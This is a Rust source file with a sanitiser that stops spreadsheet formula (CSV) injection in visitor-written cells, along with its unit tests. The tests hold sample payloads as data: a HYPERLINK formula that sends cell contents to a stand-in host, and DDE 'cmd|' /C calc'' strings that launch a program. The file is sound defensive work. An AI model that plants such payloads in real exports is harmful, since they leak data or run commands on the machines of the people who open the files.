//! Cells of a table that no spreadsheet computes.

use std::borrow::Cow;

/// A cell with what a visitor wrote: no formula in anybody's spreadsheet (OWASP, "CSV injection").
pub(crate) fn inert(text: &str) -> Cow<'_, str> {
    // The text itself begins a cell, and so does what follows whatever a spreadsheet takes for the end of one: the
    // separators of all countries, and line ends, since one that splits by `;` sees no quotes of ours.
    let sign =
        |c: char| matches!(c, '=' | '+' | '-' | '@' | '\u{ff1d}' | '\u{ff0b}' | '\u{ff0d}' | '\u{ff20}');
    let mut out = String::with_capacity(text.len());
    if text.starts_with(['\t', '\r', '\n']) {
        out.push('\'');
    }
    let mut begins = true;
    for c in text.chars() {
        if begins && sign(c) && !out.ends_with('\'') {
            out.push('\'');
        }
        out.push(c);
        begins = matches!(c, ';' | ',' | '|' | '"' | '\t' | '\r' | '\n');
    }
    if out == text { Cow::Borrowed(text) } else { Cow::Owned(out) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_that_begins_like_a_formula_stays_one() {
        for formula in [
            "=1+1",
            "=HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")",
            "=cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\u{ff1d}1+1",
            "\t1+1",
            "-",
        ] {
            assert_eq!(inert(formula), format!("'{formula}"));
        }
        // What follows a separator of any country begins a cell to somebody.
        for (text, safe) in [
            ("\t=1", "'\t'=1"),
            ("\r=1", "'\r'=1"),
            ("\n=1", "'\n'=1"),
            ("hi;=cmd|' /C calc'!A0;", "hi;'=cmd|' /C calc'!A0;"),
            ("\"hi\n=1+1;\"", "\"hi\n'=1+1;\""),
        ] {
            assert_eq!(inert(text), safe);
        }
        for text in ["", "a=1", "1-1", "'=1", " =1", "ä", "2026-11-27T12:00:00Z"] {
            assert_eq!(inert(text), text);
        }
    }
}
